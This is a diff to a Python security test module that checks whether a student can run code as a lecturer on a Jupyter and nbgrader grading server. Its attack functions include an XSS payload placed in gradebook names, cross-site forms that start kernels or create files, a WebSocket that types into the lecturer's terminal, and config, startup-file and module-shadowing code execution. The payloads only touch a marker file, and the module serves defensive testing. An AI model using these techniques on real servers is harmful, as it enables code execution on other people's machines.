@@ -18,15 +18,21 @@ from tests.unit.chromium import Site, wait
 
 if TYPE_CHECKING:
     from collections.abc import Callable
-    from pathlib import Path
+    from pathlib import Path, PurePosixPath
 
+    import requests
     from selenium import webdriver
-
-    from tests.unit.images.singleuser.grading_lab import Course
-    from tests.unit.images.singleuser.test_server import Lab
 
 EXAM = "the exam of next week"
 STUDENT, ASSIGNMENT, NOTEBOOK = "u1", "ps1", "sums"
+
+
+@dataclass(frozen=True)
+class Folder:
+    """A folder, here and where the lecturer's server runs."""
+
+    here: Path
+    there: PurePosixPath
 
 
 @dataclass
@@ -34,20 +40,22 @@ class Target:
     """A lecturer at work.
 
     Args:
-        lab: their server.
-        url: of it as the browser knows it, with a slash.
+        url: of their server as the browser knows it, with a slash.
         chrome: their browser, signed in.
-        course: its folders, with a graded hand-in of the attacker's; in the home lies an exam.
+        call: asks their server as its own pages do; takes a method and a path, returns the answer.
+        course: the course's folder, with a graded hand-in of the attacker's.
+        home: the lecturer's; in it lies an exam.
         site: the attacker's.
         submission: the graded notebook's id in formgrader.
         patience: seconds in which an attack succeeds or has failed.
 
     """
 
-    lab: Lab
     url: str
     chrome: webdriver.Chrome
-    course: Course
+    call: Callable[[str, str], requests.Response]
+    course: Folder
+    home: Folder
     site: Site
     submission: str
     patience: float
@@ -55,7 +63,12 @@ class Target:
 
     def __post_init__(self) -> None:
         """Keep what comes into being when code of the attacker runs as the lecturer."""
-        self.ran = self.course.place / "ran"
+        self.ran = self.home.here / "ran"
+
+    def inside(self, path: Path) -> str:
+        """Return a path of the course or the home as the lecturer's server knows it."""
+        folder = self.home if path.is_relative_to(self.home.here) else self.course
+        return str(folder.there / path.relative_to(folder.here))
 
     def open(self, path: str) -> None:
         """Let the lecturer open a page of their server, or a link."""
@@ -78,7 +91,7 @@ class Target:
 
     def folder(self, kind: str = "submitted") -> Path:
         """Return the folder of the hand-in."""
-        return self.course.root / kind / STUDENT / ASSIGNMENT
+        return self.course.here / kind / STUDENT / ASSIGNMENT
 
     def graded(self, *cells: dict[str, Any]) -> None:
         """Let the graded hand-in have cells; then open it in formgrader."""
@@ -128,42 +141,43 @@ class Target:
     def live(self, name: str) -> None:
         """Open a notebook of the hand-in in Lab, until its kernel has started."""
         self.open(f"lab/tree/course/submitted/{STUDENT}/{ASSIGNMENT}/{name}")
-        headers = {"X-XSRFToken": self.lab.browser.cookies.get("_xsrf", "")}
 
         def idle() -> list[str]:
-            sessions = self.lab.get("api/sessions").json()
+            sessions = self.call("GET", "api/sessions").json()
             return [s["id"] for s in sessions if name in s["path"] and s["kernel"]["execution_state"] == "idle"]
 
         wait(lambda: idle() or self.ran.exists(), 60)
-        for session in self.lab.get("api/sessions").json():
-            self.lab.browser.delete(f"{self.lab.url}api/sessions/{session['id']}", headers=headers, timeout=60)
+        for session in self.call("GET", "api/sessions").json():
+            self.call("DELETE", f"api/sessions/{session['id']}")
 
 
 def configuration_by_a_link(target: Target) -> bool:
     """Have formgrader execute the configuration of a folder that a link names."""
-    (target.folder() / "nbgrader_config.py").write_text(f"open({str(target.ran)!r}, 'w').close()\n")
-    target.open(f"formgrader?path={target.folder()}")
+    (target.folder() / "nbgrader_config.py").write_text(f"open({target.inside(target.ran)!r}, 'w').close()\n")
+    target.open(f"formgrader?path={target.inside(target.folder())}")
     (target.folder() / "nbgrader_config.py").unlink()
     return target.executed()
 
 
 def repository_by_a_link(target: Target) -> bool:
     """Have a repository cloned into a folder whose files each kernel executes."""
-    source, startup = target.course.place / "repository", "startup/00.py"
+    source, startup = target.course.here / "repository", "startup/00.py"
     shutil.rmtree(source, ignore_errors=True)
     (source / startup).parent.mkdir(parents=True)
     (source / startup).write_text("pass\n")
     git = ["git", "-C", str(source), "-c", "user.name=x", "-c", "user.email=x@example.org"]
     for command in (["init", "-q", "-b", "main"], ["add", "."], ["commit", "-q", "-m", "x"]):
         subprocess.run([*git, *command], check=True, timeout=60)  # noqa: S603
-    target.open(f"git-pull?repo={quote(f'file://{source}')}&branch=main&targetpath=.ipython/profile_default")
-    return wait((target.course.home / ".ipython/profile_default" / startup).exists, target.patience)
+    target.open(
+        f"git-pull?repo={quote(f'file://{target.inside(source)}')}&branch=main&targetpath=.ipython/profile_default"
+    )
+    return wait((target.home.here / ".ipython/profile_default" / startup).exists, target.patience)
 
 
 def script_in_a_name(target: Target) -> bool:
     """Be called in the LMS what runs in a page."""
     name = f'<img src=x onerror="{target.steal("name")}">'
-    with sqlite3.connect(target.course.root / "gradebook.db") as book:
+    with sqlite3.connect(target.course.here / "gradebook.db") as book:
         book.execute("UPDATE student SET first_name = ?, last_name = ?", (name, name))
     for page in (f"submissions/{target.submission}/", "manage_students", f"gradebook/{ASSIGNMENT}/{NOTEBOOK}"):
         target.open(f"formgrader/{page}")
@@ -298,13 +312,13 @@ def page_of_nbconvert(target: Target) -> bool:
 
 def forged_file(target: Target) -> bool:
     """Make a file in the lecturer's home by another site's form."""
-    before = set(target.course.home.iterdir())
+    before = set(target.home.here.iterdir())
     form = f'<form id="f" method="post" enctype="text/plain" action="{target.url}api/contents/">'
     target.visit(
         f"""{form}<input name='{{"type": "file", "ext": ".py", "x": "' value='"}}'></form><script>f.submit()</script>"""
     )
-    made = wait(lambda: set(target.course.home.iterdir()) - before, target.patience)
-    for path in set(target.course.home.iterdir()) - before:
+    made = wait(lambda: set(target.home.here.iterdir()) - before, target.patience)
+    for path in set(target.home.here.iterdir()) - before:
         if path.is_file():
             path.unlink()
     return made
@@ -314,7 +328,7 @@ def forged_button(target: Target) -> bool:
     """Press a button of formgrader by another site's form."""
 
     def flagged() -> Any:  # noqa: ANN401 - a number of SQLite's
-        with sqlite3.connect(target.course.root / "gradebook.db") as book:
+        with sqlite3.connect(target.course.here / "gradebook.db") as book:
             return book.execute("SELECT flagged FROM submitted_notebook WHERE id = ?", (target.submission,)).fetchone()
 
     before = flagged()
@@ -331,11 +345,10 @@ def answer_for_another_site(target: Target) -> bool:
 
 def terminal_from_another_site(target: Target) -> bool:
     """Type into the terminal that the lecturer has open, from another site's page."""
-    headers = {"X-XSRFToken": target.lab.browser.cookies.get("_xsrf", "")}
-    opened = target.lab.browser.post(f"{target.lab.url}api/terminals", headers=headers, timeout=60)
+    opened = target.call("POST", "api/terminals")
     assert opened.ok, opened.text
     socket = f"{target.url}terminals/websocket/{opened.json()['name']}".replace("http://", "ws://")
-    typed = json.dumps(["stdin", f"touch {target.ran}\r"])
+    typed = json.dumps(["stdin", f"touch {target.inside(target.ran)}\r"])
     target.visit(f"<script>s = new WebSocket('{socket}'); s.onopen = () => s.send({json.dumps(typed)})</script>")
     return target.executed()
 
@@ -346,10 +359,9 @@ def kernel_from_another_site(target: Target) -> bool:
         f'<form id="f" method="post" enctype="text/plain" action="{target.url}api/kernels">'
         """<input name='{"name": "python3", "x": "' value='"}'></form><script>f.submit()</script>"""
     )
-    started = wait(lambda: target.lab.get("api/kernels").json(), target.patience)
-    headers = {"X-XSRFToken": target.lab.browser.cookies.get("_xsrf", "")}
-    for kernel in target.lab.get("api/kernels").json():
-        target.lab.browser.delete(f"{target.lab.url}api/kernels/{kernel['id']}", headers=headers, timeout=60)
+    started = wait(lambda: target.call("GET", "api/kernels").json(), target.patience)
+    for kernel in target.call("GET", "api/kernels").json():
+        target.call("DELETE", f"api/kernels/{kernel['id']}")
     return started
 
 
@@ -366,7 +378,7 @@ def modules_of_a_live_notebook(target: Target) -> bool:
     """Have a kernel import what lies beside the notebook, before a cell has run."""
     modules = [target.folder() / f"{name}.py" for name in ("random", "calendar", "psutil", "ipykernel_launcher")]
     for module in modules:
-        module.write_text(f"open({str(target.ran)!r}, 'w').close()\n")
+        module.write_text(f"open({target.inside(target.ran)!r}, 'w').close()\n")
     target.live(f"{NOTEBOOK}.ipynb")
     for module in modules:
         module.unlink()
@@ -375,9 +387,9 @@ def modules_of_a_live_notebook(target: Target) -> bool:
 
 def kernel_of_a_live_notebook(target: Target) -> bool:
     """Choose one of the kernels that the lecturer has made for other things."""
-    spec = target.course.home / ".local/share/jupyter/kernels/private"
+    spec = target.home.here / ".local/share/jupyter/kernels/private"
     spec.mkdir(parents=True, exist_ok=True)
-    argv = [shutil.which("touch"), str(target.ran), "{connection_file}"]
+    argv = ["/usr/bin/touch", target.inside(target.ran), "{connection_file}"]
     (spec / "kernel.json").write_text(json.dumps({"argv": argv, "display_name": "Private", "language": "python"}))
     document = json.loads((target.folder() / f"{NOTEBOOK}.ipynb").read_text())
     document["metadata"]["kernelspec"] = {"name": "private", "display_name": "Private", "language": "python"}
